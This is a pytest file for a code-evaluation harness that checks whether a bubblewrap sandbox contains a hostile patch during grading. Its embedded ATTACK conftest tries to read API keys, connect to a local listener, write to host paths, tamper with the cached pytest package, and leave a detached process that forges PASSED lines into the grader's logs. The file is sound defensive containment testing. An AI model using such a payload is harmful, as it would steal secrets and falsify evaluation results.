"""Grading a hostile prediction: the patch adds a `tests/conftest.py` that attacks the grader while pytest
collects it. Each row plants a marker only that attack could create (or reads a secret only it could
see) and asserts the host is unchanged; the attack reports what it got into the tree, so a row cannot
pass because the attack never ran. Plus the control: a gold patch with a real `pip install -e .` still
grades resolved in the sandbox, and the cached venv never changes."""

from __future__ import annotations

import hashlib
import importlib.util
import json
import secrets
import select
import socket
import textwrap
import time
from pathlib import Path

import pytest

from devloop.eval import Category, grade
from devloop.runtime.bwrap import probe_bwrap
from devloop.runtime.limits import MIB, Limits

pytestmark = [
    pytest.mark.bwrap,
    pytest.mark.skipif(probe_bwrap() is not None, reason=f"bubblewrap is not usable here: {probe_bwrap()}"),
]

# The harness's fixtures (calc repository, one shared test venv per session) without copying them.
_spec = importlib.util.spec_from_file_location(
    "_harness_conftest_g", Path(__file__).parents[1] / "eval" / "conftest.py"
)
assert _spec and _spec.loader
_harness = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_harness)
env_cache = _harness.env_cache
spec = _harness.spec
env_manager = _harness.env_manager
calc_repo = _harness.calc_repo
calc_patches = _harness.calc_patches
make_task = _harness.make_task
calc_diff = _harness.calc_diff

LIMITS = Limits(max_processes=256, max_output_bytes=64 * MIB, max_file_bytes=256 * MIB)

ATTACK = """
import glob, json, os, pathlib, socket, subprocess, sys

CFG = json.loads({cfg!r})
report = {{}}


def attempt(name, fn):
    try:
        report[name] = fn()
    except BaseException as exc:
        report[name] = "refused: %s: %s" % (type(exc).__name__, exc)


def write(path):
    pathlib.Path(path).write_text(CFG["mark"])
    return "WROTE"


def connect():
    socket.create_connection(("127.0.0.1", CFG["port"]), timeout=2).sendall(CFG["mark"].encode())
    return "CONNECTED"


def poison():
    import _pytest
    target = pathlib.Path(_pytest.__file__)
    try:
        os.chmod(target, 0o666)
    except OSError:
        pass
    with open(target, "a") as fh:
        fh.write("\\n# " + CFG["mark"] + "\\n")
    return "POISONED " + str(target)


attempt("secret", lambda: os.environ.get("OPENAI_API_KEY"))
attempt("environ", lambda: sorted(os.environ))
attempt("connect", connect)
for name, path in CFG["writes"].items():
    attempt("write " + name, lambda path=path: write(path))
attempt("poison", poison)
# Outlive the tests, then forge the outcome: PASSED lines into the file pytest's output goes to (found
# among its own open files), and a marker in the tree to tell whether it was still alive.
logs = []
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink("/proc/self/fd/" + fd)
    except OSError:
        continue
    if target.startswith("/") and target.endswith((".log", ".txt")) and os.getcwd() not in target:
        logs.append(target)
late = (
    "import pathlib, time; time.sleep(%r)\\n"
    "for f in %r:\\n"
    "    open(f, 'a').write(%r)\\n"
    "pathlib.Path(%r).write_text('alive')\\n"
) % (CFG["late_after"], sorted(set(logs)), CFG["forged"], CFG["late_marker"])
report["late targets"] = sorted(set(logs))
subprocess.Popen([sys.executable, "-c", late, CFG["mark"]], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
pathlib.Path("attack-report.json").write_text(json.dumps(report))
print("ATTACK-RAN", CFG["mark"], report.get("secret"))
"""


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _listing(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


def test_a_conftest_in_the_patch_is_contained(make_task, env_manager, spec, calc_repo, calc_diff, env_cache,
                                               tmp_path, monkeypatch, escape, host_processes_with, waiter):  # fmt: skip
    tag = secrets.token_hex(6)
    mark = f"devloop-grade-escape-{tag}"
    secret = f"sk-{tag}-host-only"
    monkeypatch.setenv("OPENAI_API_KEY", secret)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    repo, _ = calc_repo
    cached = env_manager.venv_for(spec)
    package = next(cached.glob("lib/python*/site-packages/_pytest/__init__.py"))
    package_before, cache_before = _digest(package), _listing(env_cache)
    log_dir = tmp_path / "logs"
    writes = {
        "host /tmp": Path(f"/tmp/{mark}"),
        "real HOME": Path.home() / f".{mark}",
        "environment cache": env_cache / mark,
        "mirror": repo / mark,
        "log dir": log_dir / mark,
        "log file": log_dir / "test_output.txt",
        "verdict": log_dir / "verdict.json",
    }
    workdir = tmp_path / "work"
    late_marker = workdir / "tree" / f"late-{tag}"
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(4)
        cfg = {"mark": mark, "port": listener.getsockname()[1], "writes": {k: str(v) for k, v in writes.items()},
               "late_after": 1.5, "late_marker": str(late_marker),
               "forged": "".join(f"PASSED {t}\n" for t in make_task().FAIL_TO_PASS)}  # fmt: skip
        patch = calc_diff({"tests/conftest.py": textwrap.dedent(ATTACK.format(cfg=json.dumps(cfg)))})
        started = time.monotonic()
        verdict = grade(make_task(), patch, env_manager=env_manager, mirrors=None, workdir=workdir,
                        log_dir=log_dir, sandbox="bwrap", limits=LIMITS)  # fmt: skip
        ready, _, _ = select.select([listener], [], [], 0.2)
    try:
        _rows(escape, report=json.loads((workdir / "tree" / "attack-report.json").read_text()),
              log=(log_dir / "test_output.txt").read_text(), verdict=verdict, secret=secret, ready=ready,
              writes=writes, mark=mark, intact=_digest(package) == package_before and _listing(env_cache) == cache_before,
              late_marker=late_marker, late_at=started + cfg["late_after"] + 1.0,
              survivors=lambda: host_processes_with(mark), waiter=waiter)  # fmt: skip
    finally:
        for path in (writes["host /tmp"], writes["real HOME"]):
            path.unlink(missing_ok=True)


def _rows(escape, *, report, log, verdict, secret, ready, writes, mark, intact, late_marker, late_at, survivors,
          waiter) -> None:  # fmt: skip
    assert {"secret", "connect", "poison", *(f"write {name}" for name in writes)} <= set(report)  # it ran
    assert report["late targets"], "the attack found no output file to forge"

    with escape("grading: read the host's API key from the environment", by="scrubbed environment"):
        assert report["secret"] is None and secret not in log
        assert "AWS_SECRET_ACCESS_KEY" not in report["environ"] and "OPENAI_API_KEY" not in report["environ"]
    with escape("grading: connect to a 127.0.0.1 listener", by="network namespace (no network)"):
        assert report["connect"].startswith("refused") and not ready
    for name, path in writes.items():
        # Inside, such a write may succeed: into a private tmpfs, never on the host.
        by = "empty tmpfs HOME" if name == "real HOME" else "not bound (private /tmp)"
        with escape(f"grading: write into the {name}", by=by):
            assert not path.exists() or mark not in path.read_text(errors="replace")
    with escape("grading: append to a venv package file (hard link into the cache)",
                by="cached files stay root's, read-only (or a private copy)"):  # fmt: skip
        assert report["poison"].startswith("refused") or "POISONED" in report["poison"]
        assert intact
    with escape("grading: forge PASSED lines from a process outliving the tests",
                by="the sandbox ends before devloop copies the output"):  # fmt: skip
        assert verdict.category == Category.UNRESOLVED, verdict.message
        assert "PASSED tests/test_calc.py::test_add" not in log
        time.sleep(max(0.0, late_at - time.monotonic()))
        assert not late_marker.exists()  # it never woke up: dead with the sandbox
        assert waiter(lambda: not survivors(), within=3)


SETUP_PY = "from setuptools import setup\n\nsetup(name='calcpkg', version='0', py_modules=['calc'])\n"


def test_gold_patch_with_pip_install_e_resolves_in_the_sandbox(make_task, env_manager, spec, calc_repo, env_cache,
                                                               tmp_path):  # fmt: skip
    # A repository installed the usual way (`pip install -e .`, offline): the install writes the venv.
    repo = tmp_path / "pkg"
    _harness.git(tmp_path, "clone", "-q", str(calc_repo[0]), str(repo))
    (repo / "conftest.py").unlink()  # `import calc` must come from the editable install
    (repo / "setup.py").write_text(SETUP_PY)
    _harness.git(repo, "add", "-A")
    _harness.git(repo, "commit", "-qm", "packaged")
    base = _harness.git(repo, "rev-parse", "HEAD").strip()
    install = "python -m pip install -q --no-deps --no-build-isolation --no-index -e ."
    task = make_task(base_commit=base, repo_path=str(repo),
                     environment={**spec.model_dump(), "install": install})  # fmt: skip
    cached = env_manager.venv_for(spec)
    before = _listing(cached)
    verdict = grade(task, task.patch, env_manager=env_manager, mirrors=None, workdir=tmp_path / "work",
                    log_dir=tmp_path / "logs", sandbox="bwrap", limits=LIMITS)  # fmt: skip
    assert verdict.category == Category.RESOLVED, (
        verdict.message,
        (tmp_path / "logs" / "install.log").read_text(),
    )
    assert verdict.extra["sandbox"] == "bwrap"
    installed = list((tmp_path / "work" / "venv").glob("lib/python*/site-packages/*calcpkg*"))
    assert installed, "pip install -e . did not write the instance's venv"
    assert _listing(cached) == before  # ...and nothing reached the cache
